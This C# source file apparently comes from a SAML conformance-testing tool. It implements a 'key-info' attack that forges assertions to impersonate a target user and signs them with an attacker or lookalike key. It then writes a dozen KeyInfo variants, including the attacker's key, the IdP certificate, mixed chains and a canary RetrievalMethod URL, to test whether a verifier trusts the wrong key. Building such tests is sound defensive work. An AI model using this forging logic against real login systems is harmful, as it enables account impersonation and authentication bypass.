using System.Xml;
using Conformance.Saml.Forging;
using Conformance.Saml.Keys;
using Conformance.Saml.Messages;
using Conformance.Saml.Names;
using Conformance.Saml.Potency;
using Conformance.Saml.Signing;
using Conformance.Saml.Tamperings.Signatures;

namespace Conformance.Saml.Tamperings.Attacks;

/// <summary>A forged message signed with the attacker's key, which KeyInfo tries to have trusted.</summary>
internal sealed class KeyInfoAttack(TamperingArguments arguments) : Tampering
{
    private const string Ds = SamlNamespaces.XmlSignature;

    public static CatalogueEntry Entry { get; } = new(
        new TamperingDescription(
            "key-info",
            "Forges the message, signs it with the attacker's key and has KeyInfo speak for that key.",
            "The signatures verify under the attacker's key and not under the IdP's; the forged values are not covered.",
            [
                new("form", "What KeyInfo says.",
                [
                    "key-value", "der-encoded-key-value", "stranger-certificate", "lookalike-certificate",
                    "idp-certificate", "key-value-before-idp-certificate", "key-value-after-idp-certificate",
                    "stranger-before-idp-certificate", "stranger-after-idp-certificate", "idp-key-name",
                    "retrieval-method", "nothing",
                ]),
                Impersonation.Parameter,
            ]),
        arguments => new KeyInfoAttack(arguments));

    public override string Name => "key-info";

    public override void AfterSigning(Workpiece work)
    {
        var target = Impersonation.Target(arguments, work.Context);
        var form = arguments.Required("form");
        var key = form == "lookalike-certificate" ? SignatureKeys.Lookalike(work.Context) : work.Context.StrangerKey;
        var template = SignatureTemplate.From(work.Draft) with
        {
            Key = key,
            KeyInfo = KeyInfoForm.None,
            SignatureMethod = SignatureKeys.MethodFor(key, work.Draft.Signing),
        };
        var signed = SignedPlaces.Signed(work, "all");
        Impersonation.Apply(SignedPlaces.Assertion(work), target, work);
        foreach (var element in signed)
        {
            element.RemoveChild(Dom.Signature(element)!);
            WriteKeyInfo(XmlSigner.Sign(element, template), form, template.Prefix, key, work.Context);
        }

        // A Response around the assertion covers its KeyInfo too, so it is signed when that is written.
        work.Claim(new SignedByAnother(key.Certificate.PublicKey));
        work.Claim(new ForgedUncovered(Impersonation.Values(work.Context, target)));
    }

    private static void WriteKeyInfo(
        XmlElement signature, string form, string prefix, SigningKey key, ForgeContext context)
    {
        switch (form)
        {
            case "nothing":
                return;
            case "der-encoded-key-value":
                KeyInfoWriter.Write(signature, prefix, key, KeyInfoForm.DerEncodedKeyValue);
                return;
            case "stranger-certificate" or "lookalike-certificate":
                KeyInfoWriter.Write(signature, prefix, key, KeyInfoForm.X509Certificate);
                return;
            case "idp-certificate":
                KeyInfoWriter.Write(signature, prefix, context.IdpKey, KeyInfoForm.X509Certificate);
                return;
        }

        var info = Dom.Append(signature, prefix, "KeyInfo", Ds);
        switch (form)
        {
            case "key-value":
                KeyInfoWriter.WriteKeyValue(info, prefix, key);
                break;
            case "key-value-before-idp-certificate":
                KeyInfoWriter.WriteKeyValue(info, prefix, key);
                KeyInfoWriter.WriteX509(info, prefix, [context.IdpKey.CertificateBase64]);
                break;
            case "key-value-after-idp-certificate":
                KeyInfoWriter.WriteX509(info, prefix, [context.IdpKey.CertificateBase64]);
                KeyInfoWriter.WriteKeyValue(info, prefix, key);
                break;
            case "stranger-before-idp-certificate":
                KeyInfoWriter.WriteX509(info, prefix, [key.CertificateBase64, context.IdpKey.CertificateBase64]);
                break;
            case "stranger-after-idp-certificate":
                KeyInfoWriter.WriteX509(info, prefix, [context.IdpKey.CertificateBase64, key.CertificateBase64]);
                break;
            case "idp-key-name":
                Dom.Append(info, prefix, "KeyName", Ds, context.IdpKey.Name);
                break;
            default:
                var retrieval = Dom.Append(info, prefix, "RetrievalMethod", Ds);
                retrieval.SetAttribute("URI", Canary.Url(context, "key-info"));
                retrieval.SetAttribute("Type", Ds + "rawX509Certificate");
                break;
        }
    }
}
